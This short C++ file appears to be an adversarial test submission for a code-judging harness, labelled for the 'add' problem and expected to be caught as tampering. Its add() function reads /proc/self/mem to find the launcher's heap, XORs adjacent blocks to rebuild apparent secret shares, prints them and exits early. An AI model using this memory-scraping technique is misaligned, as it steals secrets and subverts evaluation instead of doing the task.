// problem: add
// attack: follows the pointers of the launcher to its shares and prints what they make
// expect: tampered | early-exit | wrong
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>
static int memory;
static void attempt(unsigned char *one, unsigned char *other) {
    unsigned char first[32], second[32];
    if (pread(memory, first, 32, (off_t)one) != 32 || pread(memory, second, 32, (off_t)other) != 32) return;
    for (int i = 0; i < 32; i++) printf("%02x", first[i] ^ second[i]);
    fflush(stdout);
    _exit(0);
}
int add(int a, int b) {
    memory = open("/proc/self/mem", O_RDONLY);
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[1000];
    while (fgets(line, sizeof line, maps)) {
        unsigned long start, end;
        if (!strstr(line, "/launcher") || !strstr(line, "rw-p") || sscanf(line, "%lx-%lx", &start, &end) != 2) continue;
        unsigned char **words = (unsigned char **)start;
        for (size_t i = 0; i + 1 < (end - start) / sizeof *words; i++)
            /* Two pieces of the heap that were asked for one after the other. */
            if (words[i + 1] - words[i] == 48) attempt(words[i], words[i + 1]);
    }
    return 0;
}
